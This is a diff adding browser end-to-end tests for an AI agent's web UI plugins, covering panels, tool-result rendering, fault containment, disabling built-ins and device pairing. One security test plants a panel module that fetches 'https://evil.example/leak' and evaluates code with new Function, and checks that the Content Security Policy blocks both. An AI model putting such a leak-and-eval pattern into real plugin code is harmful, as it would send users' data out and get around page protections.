@@ -1,0 +1,229 @@
+// What plugins add to the page: panels that work, one that draws a tool's result, and broken ones that are caught and named.
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import type { Contribution } from '../../../builtins/clients/web-ui/app/points/contribution.ts';
+import { root } from '../../helpers/sources.ts';
+import { settled } from './settled.ts';
+import { button, conversation, entries, isIdle, isReady, messageField, reads, say, useBrowser, openPages } from './use-browser.ts';
+
+const visit = useBrowser({ sharesServer: true });
+/** What built-ins show, as the page gathers it. */
+const features = import.meta.glob<{ contribution: Contribution }>('../../../builtins/*/*/ui/contribution.tsx', { eager: true });
+const example = (name: string): Record<string, string> => ({ AGENT_PLUGIN_DIR: join(root, 'examples', name) });
+
+/** A plugin with one panel for each text, written as a person would. */
+async function writePanels(home: string, panels: Readonly<Record<string, { readonly slot: string; readonly module: string }>>): Promise<void> {
+  const modules = join(home, 'modules');
+  await mkdir(modules, { recursive: true });
+  await mkdir(join(home, 'plugins'), { recursive: true });
+  const adds: string[] = [];
+  for (const [id, { slot, module }] of Object.entries(panels)) {
+    await writeFile(join(modules, `${id}.mjs`), module);
+    adds.push(`registry.add('ui.panel', ${JSON.stringify({ id, title: `Title of ${id}`, slot, module: join(modules, `${id}.mjs`) })});`);
+  }
+  const text = `export const manifest = { name: 'sad-panels', requires: ['http'] };\nexport function register(registry) {\n  ${adds.join('\n  ')}\n}\n`;
+  await writeFile(join(home, 'plugins', 'sad-panels.mjs'), text);
+}
+
+const fault = (page: Page, id: string) => page.getByRole('group', { name: `Fault in Title of ${id}` });
+
+test('a panel of a plugin has its link and its page, and follows the chat while it runs', async () => {
+  const { page, server } = await visit({ environment: example('live-panel'), script: [{ text: 'Something happened.' }, { text: 'And again.' }] });
+  const { panels } = (await server.call('GET', '/api/ui/panels')).body;
+  const panel = panels.find((one: any) => one.plugin === 'live-panel' && one.slot === 'panel');
+  await isIdle(page);
+  await say(page, 'go');
+  await reads(page, 'Something happened.');
+  await (await openPages(page)).getByRole('link', { name: panel.title }).click();
+  await page.getByRole('heading', { level: 1, name: panel.title }).waitFor();
+  const host = page.locator(`[data-panel-id="${panel.id}"]`);
+  await expect.poll(() => host.innerText()).not.toBe('');
+  const before = await host.innerText();
+  const { chats } = (await server.call('GET', '/api/chats')).body;
+  await server.call('POST', '/api/message', { chatId: chats[0].chatId, text: 'again' });
+  await expect.poll(() => host.innerText()).not.toBe(before);
+});
+
+test('a plugin draws the result of its own tool', async () => {
+  const { page, server, model } = await visit({ environment: example('own-result'), script: [] });
+  const { panels } = (await server.call('GET', '/api/ui/panels')).body;
+  const panel = panels.find((one: any) => one.plugin === 'own-result');
+  model.push({ toolCalls: [{ name: panel.tools[0], args: {} }] }, { text: 'That was it.' });
+  await isIdle(page);
+  await say(page, 'go');
+  await reads(page, 'That was it.');
+  await conversation(page)
+    .getByRole('button', { name: new RegExp(panel.tools[0]) })
+    .first()
+    .click();
+  const host = conversation(page).locator(`[data-panel-id="${panel.id}"]`);
+  await expect.poll(() => host.innerText()).not.toBe('');
+});
+
+test('a plugin has a page in the menu of a chat, a line for its own event, and something to begin with', async () => {
+  const { page, server } = await visit({ environment: example('marks') });
+  await isReady(page);
+  await button(page, '★ Mark where this chat begins').click();
+  await conversation(page).getByText('★ The beginning', { exact: true }).waitFor();
+  expect(await conversation(page).getByText('Mark: The beginning').count()).toBe(0);
+  await button(page, 'Actions for this chat').click();
+  await page.getByRole('menuitem', { name: 'Marks' }).click();
+  await page.getByRole('heading', { level: 1, name: 'Marks' }).waitFor();
+  await page.getByRole('listitem').filter({ hasText: 'The beginning' }).waitFor();
+  expect(await page.title()).toMatch(/^Marks – /);
+  await server.call('PUT', '/api/plugins/marks', { disabled: true });
+  await page.getByText('There is no panel “marks”.').waitFor();
+  await page.goBack();
+  await conversation(page).getByText('Mark: The beginning').waitFor();
+});
+
+test('one plugin from outside has a tool, a line, what it says by itself, a page and a tab of the settings', async () => {
+  const environment = { ...example('deadlines'), EXAMPLE_DEADLINES_PATTERN: '* * * * * *' };
+  const args = { what: 'Hand in the report', due: new Date().toISOString() };
+  const { page, server } = await visit({ environment, script: [{ toolCalls: [{ name: 'set_deadline', args }] }, { text: 'Noted.' }] });
+  await isIdle(page);
+  await say(page, 'Remind me.');
+  await reads(page, 'Noted.');
+  await conversation(page)
+    .getByRole('button', { name: /set_deadline.*Hand in the report/ })
+    .waitFor();
+  await entries(page, 'note').filter({ hasText: 'Deadline: Hand in the report' }).waitFor();
+  const said = conversation(page).getByRole('article', { name: 'deadlines said' });
+  await said.getByText('deadlines: A deadline that you set is due.').waitFor();
+  await said.getByText(/^Hand in the report \(/).waitFor();
+  const pages = await openPages(page);
+  await pages.getByRole('link', { name: 'Deadlines' }).click();
+  await page.getByRole('heading', { level: 1, name: 'Deadlines' }).waitFor();
+  await openPages(page);
+  expect(await pages.getByRole('link', { name: 'Deadlines' }).locator('svg').count()).toBe(1);
+  await button(page, 'Done: Hand in the report').click();
+  await page.getByText('Nothing is open. Ask the agent to set a deadline.').waitFor();
+  await page.goto(`${server.url}/#/settings/deadlines`);
+  await page.getByLabel('Minutes ahead').waitFor();
+});
+
+test('broken panels are caught where they stand, named with their plugin, and the page goes on', async () => {
+  const { page, server, expectFault } = await visit({
+    prepare: ({ home }) =>
+      writePanels(home, {
+        throws: { slot: 'panel', module: "export function mount() { throw new Error('no luck in mount'); }" },
+        later: { slot: 'panel', module: 'export async function mount() { await 0; throw new Error("no luck later"); }' },
+        syntax: { slot: 'panel', module: 'export function mount( {' },
+        empty: { slot: 'panel', module: 'export const nothing = 1;' },
+        beside: { slot: 'composer', module: "export function mount() { throw new Error('no luck beside'); }" },
+        fine: { slot: 'panel', module: "export function mount(element) { element.textContent = 'I am fine.'; }" },
+      }),
+    script: [{ text: 'Still here.' }],
+  });
+  expectFault(/no luck|SyntaxError|Unexpected token/);
+  await isIdle(page);
+  await fault(page, 'beside').waitFor();
+  await say(page, 'are you there?');
+  await reads(page, 'Still here.');
+  for (const [id, words] of Object.entries({ throws: 'no luck in mount', later: 'no luck later', syntax: /unexpected|syntax/i, empty: /mount/ })) {
+    await page.goto(`${server.url}/#/panel/${id}`);
+    await fault(page, id).getByText('sad-panels').waitFor();
+    await fault(page, id).getByText(words).first().waitFor();
+  }
+  await page.goto(`${server.url}/#/panel/fine`);
+  await page.getByText('I am fine.').waitFor();
+  await page.goto(`${server.url}/#/chat`);
+  await messageField(page).waitFor();
+});
+
+test('a panel cannot load anything from elsewhere, nor run text as code', async () => {
+  const { page, server, expectFault } = await visit({
+    prepare: ({ home }) =>
+      writePanels(home, {
+        greedy: {
+          slot: 'panel',
+          module: `export async function mount(element) {
+            const tried = [];
+            await fetch('https://evil.example/leak').catch(() => tried.push('fetch refused'));
+            try { new Function('return 1')(); } catch { tried.push('code refused'); }
+            element.textContent = tried.join(', ');
+          }`,
+        },
+      }),
+  });
+  expectFault(/evil\.example|Content Security Policy|policy:|EvalError|unsafe-eval/);
+  await page.goto(`${server.url}/#/panel/greedy`);
+  await page.getByText('fetch refused, code refused').waitFor();
+});
+
+test('built-ins that are switched off leave no trace in the page, whichever they are, and come back as they were', async () => {
+  const { page, server, expectFault } = await visit();
+  // What was asked for in the moment in which it went.
+  expectFault(/status of 404 \(Not Found\) \(\S+\/api\/\w+\?chatId=/);
+  await isReady(page);
+  const shown = Object.values(features).map(({ contribution }) => contribution);
+  const pages = shown.flatMap(({ pages: all = [] }) => all);
+  const titles = pages.filter(({ place }) => place === undefined).map(({ title }) => title);
+  const actions = shown.flatMap(({ chatActions = [] }) => chatActions.map(({ long }) => long));
+  expect([titles, actions]).toEqual([expect.arrayContaining(['Memory']), expect.arrayContaining(['Undo what the last turn changed'])]);
+  const change = async (disabled: boolean): Promise<void> => {
+    const { plugins } = (await server.call('GET', '/api/plugins')).body;
+    const canBeOff = (name: string | undefined): boolean => plugins.some((one: any) => one.name === name && !one.isFixed);
+    for (const { plugin } of shown.filter((one) => canBeOff(one.plugin)))
+      expect((await server.call('PUT', `/api/plugins/${plugin}`, { disabled })).status).toBe(200);
+  };
+  const navigation = page.getByRole('navigation', { name: 'Pages' });
+  const link = (name: string) => navigation.getByRole('link', { name, exact: true });
+  const inPalette = async (): Promise<string[]> => {
+    await page.keyboard.press('Control+k');
+    await page.getByRole('option', { name: 'New chat', exact: true }).waitFor();
+    const found = await page.getByRole('option').allInnerTexts();
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+    return found.filter((name) => [...titles, ...actions, 'Account'].includes(name));
+  };
+  const sections = async (): Promise<string[]> => {
+    await page.goto(`${server.url}/#/connections`);
+    const main = page.getByRole('main');
+    await main.getByRole('heading', { level: 2, name: 'What this workspace brings with it' }).waitFor();
+    await settled(page);
+    return (await main.getByRole('heading', { level: 2 }).allInnerTexts()).filter((name) => name !== 'What this workspace brings with it');
+  };
+  await openPages(page);
+  for (const name of [...titles, 'Account']) await link(name).waitFor();
+  expect((await inPalette()).sort()).toEqual([...titles, ...actions, 'Account'].sort());
+  await expect.poll(sections).toEqual(['MCP servers', 'OpenAPI documents', 'Accounts']);
+  await page.goto(`${server.url}/#/chat`);
+  await change(true);
+  for (const name of [...titles, 'Account']) await link(name).waitFor({ state: 'detached' });
+  expect(await inPalette()).toEqual([]);
+  await button(page, 'Actions for this chat').click();
+  const items = await page.getByRole('menuitem').allInnerTexts();
+  expect(items.filter((name) => pages.some(({ title }) => title === name))).toEqual([]);
+  await page.keyboard.press('Escape');
+  expect(await sections()).toEqual([]);
+  for (const { page: name } of pages) {
+    await page.goto(`${server.url}/#/${name}/x`);
+    await page.getByRole('heading', { name: 'Not found' }).waitFor();
+  }
+  await page.goto(`${server.url}/#/memory`);
+  await change(false);
+  await page.getByRole('heading', { level: 1, name: 'Memory' }).waitFor();
+});
+
+test('a device is let in by its code, and where nobody pairs devices no code is asked for', async () => {
+  const { page, server, expectFault } = await visit({ isForeign: true });
+  expectFault(/401/);
+  const { code } = (await server.call('POST', '/api/pair/begin', { role: 'full' })).body;
+  const { origin } = new URL(page.url());
+  await page.goto(`${origin}/#/pair/${code}`);
+  await page.getByLabel('Token').waitFor();
+  await expect.poll(() => page.getByLabel('Pairing code').inputValue()).toBe(code);
+  await button(page, 'Pair this device').click();
+  await isReady(page);
+  expect((await server.call('GET', '/api/pair/devices')).body.devices).toHaveLength(1);
+  await page.goto(`${origin}/#/pair/${code}`);
+  await isReady(page);
+  await server.call('PUT', '/api/plugins/pairing', { disabled: true });
+  await page.evaluate('localStorage.clear()');
+  await page.reload();
+  await page.getByLabel('Token').waitFor();
+  expect(await page.getByLabel('Pairing code').count()).toBe(0);
+});
